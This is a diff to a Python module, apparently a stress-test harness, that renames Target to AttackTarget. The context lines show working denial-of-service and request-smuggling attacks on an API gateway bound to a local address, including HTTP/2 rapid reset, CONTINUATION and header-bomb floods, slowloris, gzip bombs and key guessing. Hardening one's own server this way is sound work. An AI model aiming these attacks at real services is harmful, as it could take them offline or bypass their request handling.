@@ -1,7 +1,7 @@
 """Attacks on a front door, each of one process, bounded in connections and in time, against an address of this machine.
 
-Each is a function of a `Target` and of the time at which it ends, and gives what it counted. Bytes are written by hand,
-as no library of HTTP lets one send what these send.
+Each is a function of an `AttackTarget` and of the time at which it ends, and gives what it counted. Bytes are written
+by hand, as no library of HTTP lets one send what these send.
 """
 
 import json
@@ -27,7 +27,7 @@ Counts = Counter[str]
 
 
 @dataclass(frozen=True)
-class Target:
+class AttackTarget:
     """A front door: where it listens, what trusts its certificate, the keys of two clients, and the name of a model."""
 
     address: str
@@ -63,7 +63,7 @@ class Target:
         return "\r\n".join(lines).encode()
 
 
-Attack = Callable[[Target, float], Counts]
+Attack = Callable[[AttackTarget, float], Counts]
 
 
 @contextmanager
@@ -101,7 +101,7 @@ def _sent(one: socket.socket, data: bytes) -> bool:
     return True
 
 
-def _bodies(target: Target, end_s: float, head: bytes, number: int = 200) -> Counts:
+def _bodies(target: AttackTarget, end_s: float, head: bytes, number: int = 200) -> Counts:
     """Requests with bodies of 31 MiB that end before the last MiB."""
     seen, held = Counts(), list[socket.socket]()
     piece = b"x" * _MIB
@@ -129,32 +129,32 @@ def _bodies(target: Target, end_s: float, head: bytes, number: int = 200) -> Cou
     return seen
 
 
-def unfinished_bodies(target: Target, end_s: float) -> Counts:
+def unfinished_bodies(target: AttackTarget, end_s: float) -> Counts:
     """Bodies of 31 MiB that are never finished, with a valid key."""
     return _bodies(target, end_s, target.head(_WHOLE))
 
 
-def unfinished_chunked_bodies(target: Target, end_s: float) -> Counts:
+def unfinished_chunked_bodies(target: AttackTarget, end_s: float) -> Counts:
     """The same without a length."""
     return _bodies(target, end_s, target.head(_CHUNKED))
 
 
-def unfinished_gets(target: Target, end_s: float) -> Counts:
+def unfinished_gets(target: AttackTarget, end_s: float) -> Counts:
     """The same by a method whose requests have no body."""
     return _bodies(target, end_s, target.head(_CHUNKED, path=_LIST, method="GET"))
 
 
-def longer_than_allowed(target: Target, end_s: float) -> Counts:
+def longer_than_allowed(target: AttackTarget, end_s: float) -> Counts:
     """The same with a length that is larger than any that is allowed."""
     return _bodies(target, end_s, target.head(f"content-length: {40 * _MIB}"))
 
 
-def unfinished_bodies_of_strangers(target: Target, end_s: float) -> Counts:
+def unfinished_bodies_of_strangers(target: AttackTarget, end_s: float) -> Counts:
     """The same with keys that nobody has."""
     return _bodies(target, end_s, target.head(_WHOLE, key="sk-" + "0" * 40))
 
 
-def reservations_of_two_clients(target: Target, end_s: float) -> Counts:
+def reservations_of_two_clients(target: AttackTarget, end_s: float) -> Counts:
     """Forty requests without a length of each of two clients, of one byte each, whose connections end at once."""
     seen = Counts()
     while time.monotonic() < end_s:
@@ -168,7 +168,7 @@ def reservations_of_two_clients(target: Target, end_s: float) -> Counts:
     return seen
 
 
-def long_names(target: Target, end_s: float) -> Counts:
+def long_names(target: AttackTarget, end_s: float) -> Counts:
     """Fields of 30 MiB that are refused by their names, whose answers are read, on eight connections."""
     seen = Counts()
     body = b'{"kv_' + b"x" * (30 * _MIB) + b'":1}'
@@ -193,7 +193,7 @@ def long_names(target: Target, end_s: float) -> Counts:
     return seen
 
 
-def unanswered_bodies(target: Target, end_s: float) -> Counts:
+def unanswered_bodies(target: AttackTarget, end_s: float) -> Counts:
     """Whole requests of 31 MiB that no server answers."""
     seen, held = Counts(), list[socket.socket]()
     body = json.dumps({"model": target.model, "prompt": "wait", "suffix": "x" * (31 * _MIB)}).encode()
@@ -208,7 +208,7 @@ def unanswered_bodies(target: Target, end_s: float) -> Counts:
     return seen
 
 
-def slow_headers(target: Target, end_s: float) -> Counts:
+def slow_headers(target: AttackTarget, end_s: float) -> Counts:
     """Two thousand connections that each send one byte of a request's head in a second."""
     seen, held = Counts(), list[socket.socket]()
     with _closing(held):
@@ -230,7 +230,7 @@ def slow_headers(target: Target, end_s: float) -> Counts:
     return seen
 
 
-def _idle(target: Target, end_s: float, number: int, *, encrypted: bool) -> Counts:
+def _idle(target: AttackTarget, end_s: float, number: int, *, encrypted: bool) -> Counts:
     seen, held = Counts(), list[socket.socket]()
     with _closing(held):
         while time.monotonic() < end_s:
@@ -252,22 +252,22 @@ def _idle(target: Target, end_s: float, number: int, *, encrypted: bool) -> Coun
     return seen
 
 
-def idle_connections(target: Target, end_s: float) -> Counts:
+def idle_connections(target: AttackTarget, end_s: float) -> Counts:
     """Eighteen thousand connections that send nothing."""
     return _idle(target, end_s, 18000, encrypted=False)
 
 
-def idle_encrypted_connections(target: Target, end_s: float) -> Counts:
+def idle_encrypted_connections(target: AttackTarget, end_s: float) -> Counts:
     """Connections that send nothing after the TLS handshake, as many as one process makes."""
     return _idle(target, end_s, 18000, encrypted=True)
 
 
-def guessed_keys(target: Target, end_s: float) -> Counts:
+def guessed_keys(target: AttackTarget, end_s: float) -> Counts:
     """Requests with keys by chance, one after the other on ten connections."""
     return _guessed(target, end_s, lambda: f"sk-{os.urandom(24).hex()}")
 
 
-def _guessed(target: Target, end_s: float, guess: Callable[[], str]) -> Counts:
+def _guessed(target: AttackTarget, end_s: float, guess: Callable[[], str]) -> Counts:
     seen, held = Counts(), list[socket.socket]()
     with _closing(held):
         while time.monotonic() < end_s:
@@ -285,7 +285,7 @@ def _guessed(target: Target, end_s: float, guess: Callable[[], str]) -> Counts:
     return seen
 
 
-def guessed_tokens(target: Target, end_s: float) -> Counts:
+def guessed_tokens(target: AttackTarget, end_s: float) -> Counts:
     """The same with tokens by chance in the form of the provider's, where clients have tokens."""
     said = target.key.rpartition(".")[0]
     return _guessed(target, end_s, lambda: f"{said}.{urlsafe_b64encode(os.urandom(64)).decode().rstrip('=')}")
@@ -316,7 +316,7 @@ def _length(number: int) -> bytes:
     return bytes((*data, rest))
 
 
-def _block(target: Target, *more: tuple[str, str], method: str = "POST", path: str = PATH) -> bytes:
+def _block(target: AttackTarget, *more: tuple[str, str], method: str = "POST", path: str = PATH) -> bytes:
     fields = [
         (":method", method),
         (":scheme", "https"),
@@ -329,7 +329,7 @@ def _block(target: Target, *more: tuple[str, str], method: str = "POST", path: s
     return b"".join(_literal(name, value) for name, value in fields)
 
 
-def _http2(target: Target, end_s: float, flood: Callable[[Target, ssl.SSLSocket, float], int]) -> Counts:
+def _http2(target: AttackTarget, end_s: float, flood: Callable[[AttackTarget, ssl.SSLSocket, float], int]) -> Counts:
     """Connections one after the other, on each of which frames are sent until it ends."""
     seen = Counts()
     while time.monotonic() < end_s:
@@ -360,10 +360,10 @@ def _counted(one: ssl.SSLSocket, end_s: float, frames: Callable[[int], bytes], e
     return number
 
 
-def rapid_resets(target: Target, end_s: float) -> Counts:
+def rapid_resets(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487)."""
 
-    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         block = _block(target)
 
         def pairs(number: int) -> bytes:
@@ -378,10 +378,10 @@ def rapid_resets(target: Target, end_s: float) -> Counts:
     return _http2(target, end_s, flood)
 
 
-def continuations(target: Target, end_s: float) -> Counts:
+def continuations(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 headers that never end (CVE-2024-30255)."""
 
-    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         one.sendall(_frame(_HEADERS, 0, 1, _block(target)))
         piece = _frame(_CONTINUATION, 0, 1, b"".join(_literal(f"x-{i}", "y" * 100) for i in range(100)))
         return _counted(one, end_s, lambda _: piece)
@@ -389,10 +389,10 @@ def continuations(target: Target, end_s: float) -> Counts:
     return _http2(target, end_s, flood)
 
 
-def header_bombs(target: Target, end_s: float) -> Counts:
+def header_bombs(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 headers that are indexed once and named four thousand times (CVE-2016-6581's kind)."""
 
-    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         kept = b"\x40" + _length(1) + b"x" + _length(3800) + b"y" * 3800
         block = _block(target) + kept + b"\xbe" * 4000
 
@@ -401,10 +401,10 @@ def header_bombs(target: Target, end_s: float) -> Counts:
     return _http2(target, end_s, flood)
 
 
-def pings(target: Target, end_s: float) -> Counts:
+def pings(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 PING and SETTINGS frames whose answers are not read (CVE-2019-9512, CVE-2019-9515)."""
 
-    def flood(_: Target, one: ssl.SSLSocket, end_s: float) -> int:
+    def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         frames = (_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0, b"")) * 500
         number = 0
         with suppress(OSError):
@@ -416,33 +416,33 @@ def pings(target: Target, end_s: float) -> Counts:
     return _http2(target, end_s, flood)
 
 
-def empty_frames(target: Target, end_s: float) -> Counts:
+def empty_frames(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 DATA frames without data (CVE-2019-9518)."""
 
-    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         one.sendall(_frame(_HEADERS, _END_HEADERS, 1, _block(target)))
         return _counted(one, end_s, lambda _: _frame(_DATA, 0, 1, b"") * 100, 100)
 
     return _http2(target, end_s, flood)
 
 
-def many_streams(target: Target, end_s: float) -> Counts:
+def many_streams(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 connections with all the streams that they may have, each with a body that never ends."""
     return _streams(target, end_s, _block(target, ("content-length", str(31 * _MIB))))
 
 
-def many_get_streams(target: Target, end_s: float) -> Counts:
+def many_get_streams(target: AttackTarget, end_s: float) -> Counts:
     """The same by a method whose requests have no body, without a length."""
     return _streams(target, end_s, _block(target, method="GET", path=_LIST))
 
 
-def many_longer_streams(target: Target, end_s: float) -> Counts:
+def many_longer_streams(target: AttackTarget, end_s: float) -> Counts:
     """The same with a length that is larger than any that is allowed."""
     return _streams(target, end_s, _block(target, ("content-length", str(40 * _MIB))))
 
 
-def _streams(target: Target, end_s: float, block: bytes) -> Counts:
-    def flood(_: Target, one: ssl.SSLSocket, end_s: float) -> int:
+def _streams(target: AttackTarget, end_s: float, block: bytes) -> Counts:
+    def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         streams = range(1, 201, 2)
         for stream in streams:
             one.sendall(_frame(_HEADERS, _END_HEADERS, stream, block))
@@ -462,7 +462,7 @@ def _streams(target: Target, end_s: float, block: bytes) -> Counts:
     return _http2(target, end_s, flood)
 
 
-def unread_answers(target: Target, end_s: float) -> Counts:
+def unread_answers(target: AttackTarget, end_s: float) -> Counts:
     """Answers of 16 MiB that nobody reads, on two hundred connections."""
     seen, held = Counts(), list[socket.socket]()
     body = json.dumps({"model": target.model, "prompt": "large"}).encode()
@@ -478,7 +478,7 @@ def unread_answers(target: Target, end_s: float) -> Counts:
     return seen
 
 
-def _posted(target: Target, end_s: float, body: bytes, *headers: str) -> Counts:
+def _posted(target: AttackTarget, end_s: float, body: bytes, *headers: str) -> Counts:
     seen = Counts()
     while time.monotonic() < end_s:
         with suppress(OSError), target.connect() as one:
@@ -488,7 +488,7 @@ def _posted(target: Target, end_s: float, body: bytes, *headers: str) -> Counts:
     return seen
 
 
-def compressed_bombs(target: Target, end_s: float) -> Counts:
+def compressed_bombs(target: AttackTarget, end_s: float) -> Counts:
     """Bodies of 30 MiB that would be 30 GiB if somebody unpacked them."""
     import gzip  # noqa: PLC0415 - of this one alone
 
@@ -497,19 +497,19 @@ def compressed_bombs(target: Target, end_s: float) -> Counts:
     return _posted(target, end_s, whole, "content-encoding: gzip")
 
 
-def nested_bodies(target: Target, end_s: float) -> Counts:
+def nested_bodies(target: AttackTarget, end_s: float) -> Counts:
     """JSON of fifteen million lists in each other."""
     depth = 15 * _MIB
     return _posted(target, end_s, b'{"a":' + b"[" * depth + b"]" * depth + b',"model":"x"}')
 
 
-def wide_bodies(target: Target, end_s: float) -> Counts:
+def wide_bodies(target: AttackTarget, end_s: float) -> Counts:
     """JSON of two million keys."""
     keys = b",".join(b'"k%d":{}' % i for i in range(2_000_000))
     return _posted(target, end_s, b"{" + keys + b',"model":"x"}')
 
 
-def smuggled(target: Target, end_s: float) -> Counts:
+def smuggled(target: AttackTarget, end_s: float) -> Counts:
     """Requests whose end can be read in two ways, again and again (RFC 9112, sections 6.3 and 11.2)."""
     seen = Counts()
     cases = smuggling_cases(target)
@@ -521,7 +521,7 @@ def smuggled(target: Target, end_s: float) -> Counts:
     return seen
 
 
-def smuggling_cases(target: Target) -> dict[str, bytes]:
+def smuggling_cases(target: AttackTarget) -> dict[str, bytes]:
     """Bytes of requests by their name, each with a second request for `/smuggled` that a confused reader would see."""
     hidden = target.head("content-length: 0", path="/smuggled")
     inner = json.dumps({"model": target.model, "prompt": "x"}).encode()
@@ -553,7 +553,7 @@ def smuggling_cases(target: Target) -> dict[str, bytes]:
     }
 
 
-def smuggled_http2(target: Target, end_s: float) -> Counts:
+def smuggled_http2(target: AttackTarget, end_s: float) -> Counts:
     """HTTP/2 headers that would be another request in HTTP/1."""
     cases: Sequence[tuple[str, str]] = (
         ("x-a", "b\r\ntransfer-encoding: chunked"),
@@ -564,7 +564,7 @@ def smuggled_http2(target: Target, end_s: float) -> Counts:
         ("Host", "other"),
     )
 
-    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+    def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         body = b"0\r\n\r\n" + target.head("content-length: 0", path="/smuggled")
         sent = 0
         for i, case in enumerate(cases):
@@ -616,7 +616,7 @@ def main() -> None:
     """Runs one attack: its name, the target as JSON, and seconds."""
     name, target, seconds = sys.argv[1:]
     attack = next(attack for attack in ATTACKS if attack.__name__ == name)
-    print(json.dumps(attack(Target(**json.loads(target)), time.monotonic() + float(seconds))))
+    print(json.dumps(attack(AttackTarget(**json.loads(target)), time.monotonic() + float(seconds))))
 
 
 if __name__ == "__main__":
